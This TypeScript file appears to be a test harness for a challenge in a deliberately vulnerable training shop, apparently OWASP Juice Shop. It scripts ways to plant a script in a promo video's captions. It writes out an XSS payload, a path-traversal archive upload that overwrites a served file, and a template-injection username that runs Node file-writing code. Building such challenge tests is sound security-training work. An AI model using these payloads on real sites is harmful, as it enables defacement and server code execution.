import { defineWays } from '#game/define.ts'
import { uploadArchive } from '#game/visitor/requests.ts'
import { becomeShopper } from '#game/visitor/shopper.ts'
import type { Visitor, VisitorReply } from '#game/visitor/visitor.ts'

const PAYLOAD = '</script><script>alert(`xss`)</script>'

export default defineWays({
  otherWays: {
    'nothing but the payload': (visitor) => watch(visitor, PAYLOAD),
    'captions, and the payload at their end': (visitor) =>
      watch(visitor, `WEBVTT\n\n00:00.000 --> 00:01.000\nJuice!\n\n${PAYLOAD}`),
    'along with the legal information': async (visitor) => {
      await uploadArchive(visitor, { 'invoice.txt': 'One juice.', [CAPTIONS]: PAYLOAD })
      await visitor.get('/promotion?from=the-fair')
    },
    'captions that a program on the server has written': async (visitor) => {
      await becomeShopper(visitor)
      const [file, text] = [CAPTIONS.slice('../../'.length), Buffer.from(PAYLOAD).toString('base64')]
      await visitor.submit('/profile', {
        username: `#{require('fs').writeFileSync('${file}', Buffer.from('${text}', 'base64'))}`,
      })
      await visitor.get('/profile')
      await visitor.get('/promotion')
    },
  },
  mishaps: {
    'the film as it is': [200, (visitor) => visitor.get('/promotion')],
    'other captions': [200, (visitor) => watch(visitor, 'WEBVTT\n\n00:00.000 --> 00:05.000\nJuice!\n')],
    'a script that is not let out': [200, (visitor) => watch(visitor, '<script>alert(`xss`)</script>')],
    'captions that nobody looks at': [204, (visitor) => uploadArchive(visitor, { [CAPTIONS]: PAYLOAD })],
    'captions of another film': [
      200,
      async (visitor) => {
        await uploadArchive(visitor, { [CAPTIONS]: 'WEBVTT', [CAPTIONS.replace('owasp', 'other')]: PAYLOAD })
        return visitor.get('/promotion')
      },
    ],
  },
})

const CAPTIONS = '../../frontend/dist/frontend/assets/public/videos/owasp_promo.vtt'

async function watch(visitor: Visitor, captions: string): Promise<VisitorReply> {
  await uploadArchive(visitor, { [CAPTIONS]: captions })
  return visitor.get('/promotion')
}
